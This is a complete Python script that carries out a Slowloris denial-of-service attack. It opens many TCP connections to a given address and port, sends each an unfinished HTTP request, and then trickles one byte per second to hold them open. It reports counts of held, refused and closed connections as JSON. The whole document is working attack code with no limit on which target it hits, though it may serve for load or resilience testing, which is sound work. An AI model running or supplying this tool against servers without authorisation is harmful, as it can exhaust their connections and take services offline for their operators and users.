"""Opens many connections and sends the beginning of a request on each, a byte every second, as long as they last.

    python3 slowloris.py ADDRESS PORT CONNECTIONS SECONDS

Prints a line of JSON when all are open, with how many are held and how many were refused, and one at the end, with how
many the server has closed.
"""

from __future__ import annotations

import json
import socket
import sys
import time


def say(counts: dict[str, int]) -> None:
    """Print counts at once."""
    sys.stdout.write(json.dumps(counts) + "\n")
    sys.stdout.flush()


def main() -> None:
    """Hold the connections and count."""
    address, port, wanted, seconds = sys.argv[1:]
    refused, closed, held = 0, 0, []
    for _ in range(int(wanted)):
        try:
            connection = socket.create_connection((address, int(port)), timeout=3)
            connection.sendall(b"GET / HTTP/1.1\r\nHost: ")
            connection.setblocking(False)
            held.append(connection)
        except OSError:
            refused += 1
    say({"held": len(held), "refused": refused})
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        time.sleep(1)
        for connection in list(held):
            try:
                connection.sendall(b"X")
            except BlockingIOError:
                continue
            except OSError:
                held.remove(connection)
                closed += 1
    say({"held": len(held), "closed": closed})


if __name__ == "__main__":
    main()
